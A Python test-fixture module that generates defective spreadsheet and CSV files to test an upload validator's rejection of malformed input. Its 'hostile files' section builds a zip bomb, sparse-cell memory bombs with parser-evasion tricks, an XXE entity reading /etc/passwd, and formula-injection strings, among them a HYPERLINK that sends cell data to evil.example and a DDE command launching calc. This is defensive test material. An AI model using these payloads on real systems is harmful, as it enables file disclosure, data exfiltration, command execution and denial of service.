"""The defect corpus: how each file in ``data/`` was made from CBP's freshly generated template.

One small function per defect turns the template (and, for a few, ICE's template or CBP's CSV)
into the defective file; ``DEFECTS`` maps the file name to its function. The files are committed
and checked by ``test_defects``; regenerate them with

    REGENERATE_DEFECTS=1 .venv/bin/pytest wpstrack/workbooks/tests/test_defects.py -k regenerate

which needs xlwt and msoffcrypto-tool installed (for generation only; neither is a dependency).
Templates hold the round's plan slug, period, unit codes and a checksum of the keys, not database
ids, so the files still match the test database a later run builds.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import openpyxl

from wpstrack.workbooks.tests.scenario import DATA, FILLED, FILLED_ACTIONS


@dataclass(frozen=True)
class Sources:
    """What the defects are made from, generated in the test database."""

    template: bytes  # CBP's .xlsx template, as downloaded (empty draft)
    ice_template: bytes  # ICE's .xlsx template
    csv: bytes  # CBP's Values CSV


# -- helpers -------------------------------------------------------------------------------------
def _load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _save(book: openpyxl.Workbook) -> bytes:
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def _filled(
    src: Sources,
    cells: dict[str, Any] | None = None,
    edit: Callable[[openpyxl.Workbook], None] | None = None,
) -> bytes:
    """CBP's template filled as ``scenario.FILLED`` (with ``cells`` on top), then ``edit``ed."""
    book = _load(src.template)
    for ref, value in {**FILLED, **(cells or {})}.items():
        book["Values"][ref] = value
    for ref, value in FILLED_ACTIONS.items():
        book["Actions"][ref] = value
    if edit is not None:
        edit(book)
    return _save(book)


def _meta(key: str, value: str) -> Callable[[openpyxl.Workbook], None]:
    def edit(book: openpyxl.Workbook) -> None:
        for row in book["_wpstrack"].iter_rows():
            if row[0].value == key:
                row[1].value = value

    return edit


def _rezip(data: bytes, change: Callable[[str, bytes], bytes], add: dict[str, bytes]) -> bytes:
    """The same zip with each member passed through ``change`` and ``add`` appended."""
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info)))
        for name, body in add.items():
            target.writestr(name, body, zipfile.ZIP_DEFLATED, compresslevel=9)
    return output.getvalue()


def _sheet_path(data: bytes, name: str) -> str:
    """The zip member of a sheet, found through workbook.xml and its relationships."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    book = archive.read("xl/workbook.xml").decode()
    rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(name)}"[^>]*r:id="([^"]+)"', book)
    assert rid is not None, name
    target = re.search(rf'<Relationship [^>]*Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels)
    if target is None:  # attributes in the other order
        target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels)
    assert target is not None, name
    path = target.group(1)
    return path.lstrip("/") if path.startswith("/") else "xl/" + path


def _rows(data: bytes, sheet: str = "Values") -> list[list[Any]]:
    return [list(row) for row in _load(data)[sheet].iter_rows(values_only=True)]


# -- whose file it is ---------------------------------------------------------------------------
def wrong_unit(src: Sources) -> bytes:
    """ICE's template, filled, uploaded on CBP's page."""
    book = _load(src.ice_template)
    book["Values"]["H2"] = 12
    return _save(book)


def wrong_round(src: Sources) -> bytes:
    """Last quarter's template: the metadata names round FY2025-Q2."""
    return _filled(src, edit=_meta("round", "tiny/FY2025-Q2"))


def old_template_version(src: Sources) -> bytes:
    return _filled(src, edit=_meta("template_version", "0"))


def not_a_template(src: Sources) -> bytes:
    """An ordinary workbook holding the same rows: no ``_wpstrack`` sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Values"
    for row in _rows(_filled(src)):
        sheet.append(row)
    return _save(book)


# -- columns ------------------------------------------------------------------------------------
def renamed_column(src: Sources) -> bytes:
    return _filled(src, {"H1": "Figure"})


def missing_column(src: Sources) -> bytes:
    """Column G (Previous value) deleted."""
    return _filled(src, edit=lambda book: book["Values"].delete_cols(7))


def extra_column(src: Sources) -> bytes:
    """A headed column N added after the template's last one."""
    return _filled(src, {"N1": "Notes", "N2": "checked by Ana"})


def value_outside_columns(src: Sources) -> bytes:
    """A figure typed right of the table, in a column with no header."""
    return _filled(src, {"O3": 71})


def reordered_columns(src: Sources) -> bytes:
    """Comment dragged to just after Value and Unit swapped with Metric: headers still match."""

    def edit(book: openpyxl.Workbook) -> None:
        sheet = book["Values"]
        rows = [list(r) for r in sheet.iter_rows(values_only=True)]
        order = [1, 0, 2, 3, 4, 5, 6, 7, 12, 8, 9, 10, 11]  # B A C D E F G H M I J K L
        for number, row in enumerate(rows, start=1):
            for index, source in enumerate(order):
                sheet.cell(number, index + 1).value = row[source]

    return _filled(src, edit=edit)


def duplicate_column(src: Sources) -> bytes:
    """The Value column copied into N."""
    return _filled(src, {"N1": "Value", "N2": 30})


# -- rows -----------------------------------------------------------------------------------------
def blank_required(src: Sources) -> bytes:
    """The metric code of row 3 and the breakdown key of row 6 cleared."""
    return _filled(src, {"B3": None, "E6": None})


def text_in_number_cell(src: Sources) -> bytes:
    return _filled(src, {"H3": "seventy"})


def negative_count(src: Sources) -> bytes:
    return _filled(src, {"H3": -4})


def fractional_count(src: Sources) -> bytes:
    return _filled(src, {"H4": 2.5})


def percentage_over_100(src: Sources) -> bytes:
    return _filled(src, {"H6": 140})


def sex_total_mismatch(src: Sources) -> bytes:
    """Women 3 + men 4 + other 0 with a typed total of 9 (over the template's formula)."""
    return _filled(src, {"H2": 3, "H3": 4, "H4": 0, "H5": 9})


def duplicate_row(src: Sources) -> bytes:
    """Row 6 (1-M2) copied to row 11 with another figure."""

    def edit(book: openpyxl.Workbook) -> None:
        sheet = book["Values"]
        for column in range(1, 14):
            sheet.cell(11, column).value = sheet.cell(6, column).value
        sheet["H11"] = 45

    return _filled(src, edit=edit)


def unknown_metric(src: Sources) -> bytes:
    return _filled(src, {"B6": "1-M9"})


def unknown_breakdown_key(src: Sources) -> bytes:
    return _filled(src, {"E3": "sex=male"})


def missing_row(src: Sources) -> bytes:
    """Row 3 (1-M1, men) deleted."""
    return _filled(src, edit=lambda book: book["Values"].delete_rows(3))


def not_for_this_metric(src: Sources) -> bytes:
    """A numerator typed on a count's row."""
    return _filled(src, {"I2": 5})


def formula_without_value(src: Sources) -> bytes:
    """openpyxl writes formulas without a cached value, as a script (not Excel) would."""
    return _filled(src, {"H2": "=2+3"})


def merged_cells(src: Sources) -> bytes:
    return _filled(src, edit=lambda book: book["Values"].merge_cells("H2:H3"))


# -- other formats ------------------------------------------------------------------------------
def excel_97_2003(src: Sources) -> bytes:
    """A real .xls (BIFF8, made with xlwt) holding the template's first rows."""
    import xlwt

    book = xlwt.Workbook()
    sheet = book.add_sheet("Values")
    for r, row in enumerate(_rows(_filled(src))[:4]):
        for c, value in enumerate(row):
            if isinstance(value, int | float | str):
                sheet.write(r, c, value)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def macro_enabled(src: Sources) -> bytes:
    """An .xlsx declared macro-enabled in [Content_Types].xml, holding xl/vbaProject.bin."""

    def change(name: str, body: bytes) -> bytes:
        if name == "[Content_Types].xml":
            body = body.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ).replace(
                b"<Default ",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"<Default ",
                1,
            )
        elif name == "xl/_rels/workbook.xml.rels":
            body = body.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
        return body

    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # stands in for the VBA project
    return _rezip(_filled(src), change, {"xl/vbaProject.bin": vba})


def opendocument(src: Sources) -> bytes:
    """A minimal real .ods: ``mimetype`` first and stored, content.xml, META-INF/manifest.xml."""
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    cells = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
        for text in ("Unit", "Metric", "Breakdown key", "Value")
    )
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Values">'
        f"<table:table-row>{cells}</table:table-row>"
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime.decode()}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("mimetype", mime, zipfile.ZIP_STORED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return output.getvalue()


def csv_renamed(src: Sources) -> bytes:
    """CBP's CSV, saved under a name ending in .xlsx."""
    return src.csv


def password_protected(src: Sources) -> bytes:
    """The filled template encrypted by msoffcrypto-tool as Excel does (an OLE file)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    output = io.BytesIO()
    OOXMLFile(io.BytesIO(_filled(src))).encrypt("secret", output)
    return output.getvalue()


def truncated(src: Sources) -> bytes:
    """The filled template cut in the middle, as an interrupted download leaves it."""
    data = _filled(src)
    return data[: len(data) // 2]


# -- hostile files ------------------------------------------------------------------------------
ZIP_BOMB_MEMBER = 3 * 1024 * 1024  # test_defects lowers the cap to 1 MB for this file


def zip_bomb(src: Sources) -> bytes:
    """A member of 3 MB of spaces, deflated to a few KB."""
    return _rezip(
        _filled(src), lambda _n, body: body, {"xl/media/padding.xml": b" " * ZIP_BOMB_MEMBER}
    )


def sparse_cell_bomb(src: Sources) -> bytes:
    """One cell at XFD1048576: a reader that allocates the rectangle would ask for tens of GB."""
    return _filled(src, {"XFD1048576": 1})


FAR_CELL = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def _values_xml(data: bytes, edit: Callable[[bytes], bytes]) -> bytes:
    """The same workbook with the XML of its Values sheet passed through ``edit``."""
    path = _sheet_path(data, "Values")
    return _rezip(data, lambda name, body: edit(body) if name == path else body, {})


def _far_cell(far: bytes) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b"</sheetData>", far + b"</sheetData>", 1)


def sparse_cell_bomb_single_quotes(src: Sources) -> bytes:
    """The far cell's references in single quotes, which XML allows and a scan for r="..."
    would not see."""
    return _values_xml(_filled(src), _far_cell(FAR_CELL.replace(b'"', b"'")))


def sparse_cell_bomb_twice_referenced(src: Sources) -> bytes:
    """A cell with two r attributes: a plain A11 first, then XFD1048576 (calamine takes the
    last)."""
    return _values_xml(
        _filled(src), _far_cell(b'<row r="11"><c r="A11" r="XFD1048576"><v>1</v></c></row>')
    )


def sparse_cell_bomb_unlisted_part(src: Sources) -> bytes:
    """The Values sheet (with the far cell) stored as worksheets/sheet3.dat: a part whose name
    does not end in .xml is still read by calamine when the workbook points at it."""
    data = _values_xml(_filled(src), _far_cell(FAR_CELL))
    path = _sheet_path(data, "Values")
    renamed = path[: -len(".xml")] + ".dat"
    source = zipfile.ZipFile(io.BytesIO(data))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info)
            if info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(path[len("xl/") :].encode(), renamed[len("xl/") :].encode())
            target.writestr(renamed if info.filename == path else info.filename, body)
    return output.getvalue()


def sparse_cell_bomb_case_twin(src: Sources) -> bytes:
    """A second Values part whose name differs only in case, holding the far cell: calamine
    may read either (it looks names up without regard to case)."""
    data = _filled(src)
    path = _sheet_path(data, "Values")
    twin = path.replace("sheet", "Sheet")
    body = zipfile.ZipFile(io.BytesIO(data)).read(path)
    return _rezip(data, lambda _n, b: b, {twin: _far_cell(FAR_CELL)(body)})


def xml_external_entity(src: Sources) -> bytes:
    """The Values sheet's XML declares an external entity and uses it in cell M2."""
    declaration = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    cell = re.compile(rb'<c r="M2"([^>]*?)(/>|>.*?</c>)', re.S)

    def edit(body: bytes) -> bytes:
        assert cell.search(body), "no cell M2"
        body = cell.sub(rb'<c r="M2"\1 t="inlineStr"><is><t>&xxe;</t></is></c>', body, count=1)
        head = re.match(rb"<\?xml[^>]*\?>", body)
        at = head.end() if head else 0
        return body[:at] + declaration + body[at:]

    return _values_xml(_filled(src), edit)


def over_size_limit(src: Sources) -> bytes:
    """A good filled template: test_defects lowers UPLOAD_MAX_BYTES below its size."""
    return _filled(src)


# -- CSV ------------------------------------------------------------------------------------------
def _csv_edit(src: Sources, line: int, edit: Callable[[list[str]], None]) -> bytes:
    """CBP's CSV with one line's cells passed through ``edit`` (line 0 is the header)."""
    rows = list(csv.reader(io.StringIO(src.csv.decode("utf-8-sig"), newline="")))
    edit(rows[line])
    output = io.StringIO()
    csv.writer(output, lineterminator="\r\n").writerows(rows)
    return output.getvalue().encode("utf-8-sig")


def csv_wrong_round(src: Sources) -> bytes:
    """Row 3 of the CSV says round FY2025-Q2."""

    def edit(cells: list[str]) -> None:
        cells[0] = "tiny/FY2025-Q2"

    return _csv_edit(src, 2, edit)


def csv_text_in_number_cell(src: Sources) -> bytes:
    """ "seventy" in the Value column (I: the CSV has Round in A) of row 3 (1-M1, men)."""

    def edit(cells: list[str]) -> None:
        assert cells[1:3] == ["DHS-CBP", "1-M1"] and cells[5] == "sex=men", cells
        cells[8] = "seventy"

    return _csv_edit(src, 2, edit)


# -- formula injection ----------------------------------------------------------------------------
INJECTED = {
    "M2": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "M3": "+cmd|' /C calc'!A0",
    "M4": "-2+3",
    "M6": "@SUM(A1:A2)",
}


def formula_injection(src: Sources) -> bytes:
    """Comments that a spreadsheet would run as formulas, typed as text (``=`` forced to a
    string cell, as Excel stores text typed after an apostrophe)."""

    def edit(book: openpyxl.Workbook) -> None:
        for ref, text in INJECTED.items():
            cell = book["Values"][ref]
            cell.value = text
            cell.data_type = "s"

    return _filled(src, edit=edit)


DEFECTS: dict[str, Callable[[Sources], bytes]] = {
    "wrong-unit.xlsx": wrong_unit,
    "wrong-round.xlsx": wrong_round,
    "old-template-version.xlsx": old_template_version,
    "not-a-template.xlsx": not_a_template,
    "renamed-column.xlsx": renamed_column,
    "missing-column.xlsx": missing_column,
    "extra-column.xlsx": extra_column,
    "value-outside-columns.xlsx": value_outside_columns,
    "reordered-columns.xlsx": reordered_columns,
    "duplicate-column.xlsx": duplicate_column,
    "blank-required.xlsx": blank_required,
    "text-in-number-cell.xlsx": text_in_number_cell,
    "negative-count.xlsx": negative_count,
    "fractional-count.xlsx": fractional_count,
    "percentage-over-100.xlsx": percentage_over_100,
    "sex-total-mismatch.xlsx": sex_total_mismatch,
    "duplicate-row.xlsx": duplicate_row,
    "unknown-metric.xlsx": unknown_metric,
    "unknown-breakdown-key.xlsx": unknown_breakdown_key,
    "missing-row.xlsx": missing_row,
    "not-for-this-metric.xlsx": not_for_this_metric,
    "formula-without-value.xlsx": formula_without_value,
    "merged-cells.xlsx": merged_cells,
    "excel-97-2003.xls": excel_97_2003,
    "macro-enabled.xlsm": macro_enabled,
    "opendocument.ods": opendocument,
    "csv-renamed.xlsx": csv_renamed,
    "password-protected.xlsx": password_protected,
    "truncated.xlsx": truncated,
    "zip-bomb.xlsx": zip_bomb,
    "sparse-cell-bomb.xlsx": sparse_cell_bomb,
    "sparse-cell-bomb-single-quotes.xlsx": sparse_cell_bomb_single_quotes,
    "sparse-cell-bomb-twice-referenced.xlsx": sparse_cell_bomb_twice_referenced,
    "sparse-cell-bomb-unlisted-part.xlsx": sparse_cell_bomb_unlisted_part,
    "sparse-cell-bomb-case-twin.xlsx": sparse_cell_bomb_case_twin,
    "xml-external-entity.xlsx": xml_external_entity,
    "over-size-limit.xlsx": over_size_limit,
    "csv-wrong-round.csv": csv_wrong_round,
    "csv-text-in-number-cell.csv": csv_text_in_number_cell,
    "formula-injection.xlsx": formula_injection,
}


def write_all(src: Sources) -> list[str]:
    """Make every defective file in ``data/``; returns the names written."""
    DATA.mkdir(exist_ok=True)
    for name, make in DEFECTS.items():
        (DATA / name).write_bytes(make(src))
    return list(DEFECTS)
